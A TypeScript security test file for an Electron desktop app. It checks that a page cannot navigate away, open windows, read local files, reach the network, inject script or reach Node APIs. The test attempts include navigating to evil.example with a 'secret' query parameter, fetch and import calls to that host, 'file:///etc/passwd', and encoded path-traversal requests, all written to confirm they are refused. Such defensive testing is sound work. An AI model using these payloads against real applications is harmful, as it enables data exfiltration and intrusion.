import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import type { Troubles } from '../../preload/contract.ts';
import { until } from '../fakes/until.ts';
import { type Desktop, startDesktop } from './rig.ts';
import { launchApp, type RunningApp } from './rig-app.ts';

describe('a page gone wild', () => {
  let desktop: Desktop;
  let app: RunningApp;
  let page: Page;

  before(async () => {
    desktop = await startDesktop();
    app = await launchApp(desktop);
    page = await app.page('welcome');
    await page.waitForSelector('h1');
  });

  after(async () => {
    await app?.end();
    await desktop?.end();
  });

  const troubles = async () => (await app.ask('welcome', 'troubles')) as Troubles;

  /** Runs what a page might try, and waits until one more of that kind was refused. */
  async function isRefused(
    kind: 'navigationsRefused' | 'permissionsRefused' | 'pagesRefused',
    attempt: string,
  ) {
    const before = (await troubles())[kind];
    await page.evaluate(attempt).catch(() => {});
    await until(async () => (await troubles())[kind] > before, `${attempt} is refused`);
    assert.equal(page.url(), 'live://app/welcome.html');
  }

  it('cannot go elsewhere', async () => {
    await isRefused('navigationsRefused', `location.href = 'https://evil.example/?q=secret'`);
    assert.doesNotMatch(JSON.stringify((await troubles()).latest), /secret/);
    await page.evaluate(`location.href = 'file:///etc/passwd'`);
    await isRefused('navigationsRefused', `location.href = 'live://app/status.html'`);
  });

  it('cannot open windows', async () => {
    const before = app.electron.windows().length;
    await isRefused('navigationsRefused', `void open('https://evil.example/')`);
    assert.equal(app.electron.windows().length, before);
  });

  it('cannot read files of this computer, or any that are not meant for pages', async () => {
    for (const path of ['/settings.json', '/../preload.cjs', '/%2e%2e/main.js', '/welcome.js.map']) {
      await isRefused(
        'pagesRefused',
        `void new Promise((done) => { const one = document.createElement('img');
        one.onerror = done; one.src = ${JSON.stringify(path)}; })`,
      );
    }
  });

  it('cannot talk to anyone', async () => {
    for (const attempt of [
      `fetch('https://evil.example/')`,
      `new Promise((done, fail) => { const socket = new WebSocket('wss://evil.example/'); socket.onerror = fail; })`,
      `import('https://evil.example/x.js')`,
    ]) {
      await assert.rejects(page.evaluate(attempt));
    }
  });

  it('cannot turn text into markup or code', async () => {
    await assert.rejects(page.evaluate(`document.body.innerHTML = '<b>x</b>'`), /TrustedHTML/);
    await page.evaluate(`setTimeout('window.hit = 1', 0)`).catch(() => {});
    await page
      .evaluate(`{ const one = document.createElement('script'); one.textContent = 'window.hit = 1';
      document.body.append(one); }`)
      .catch(() => {});
    assert.equal(await page.evaluate(`'hit' in window`), false);
  });

  it('cannot get permissions', async () => {
    await isRefused('permissionsRefused', `navigator.requestMIDIAccess({ sysex: true })`);
    assert.equal(await page.evaluate(`Notification.permission`), 'denied');
    assert.equal(
      await page.evaluate(`navigator.permissions.query({ name: 'geolocation' }).then((one) => one.state)`),
      'denied',
    );
  });

  it('cannot download', async () => {
    await isRefused(
      'navigationsRefused',
      `{ const one = document.createElement('a'); one.href = 'sounds/alarm.wav';
      one.download = 'x.wav'; one.click(); }`,
    );
  });

  it('finds nothing of Node or Electron, and no more on the bridge than was agreed', async () => {
    assert.deepEqual(await page.evaluate(`[typeof require, typeof process, typeof Buffer]`), [
      'undefined',
      'undefined',
      'undefined',
    ]);
    const names = (await page.evaluate(`Object.keys(window.live)`)) as string[];
    assert.ok(
      names.includes('status') &&
        names.includes('on') &&
        !names.some((name) => /ipc|invoke|send/i.test(name)),
    );
    await assert.rejects(page.evaluate(`window.live.on('settings:x', () => {})`), /no such push/);
  });

  it('is not listened to when it is no window of ours', async () => {
    const answer = await app.electron.evaluate(
      async ({ BrowserWindow, session }, preload) => {
        const stranger = new BrowserWindow({
          show: false,
          webPreferences: { preload, sandbox: true, session: session.fromPartition('live') },
        });
        await stranger.loadURL('live://app/welcome.html');
        const said = await stranger.webContents.executeJavaScript(
          `window.live.saveToken('a'.repeat(40)).then(() => 'heard', (error) => String(error))`,
        );
        stranger.destroy();
        return said as string;
      },
      new URL('../../out/preload.cjs', import.meta.url).pathname,
    );
    assert.match(answer, /refused/);
    assert.ok((await troubles()).latest.some((line) => line.includes('not from a window of ours')));
  });

  it('leaves all of it countable', async () => {
    const { navigationsRefused, permissionsRefused, pagesRefused, callsRefused } = await troubles();
    for (const count of [navigationsRefused, permissionsRefused, pagesRefused, callsRefused])
      assert.ok(count > 0);
  });
});
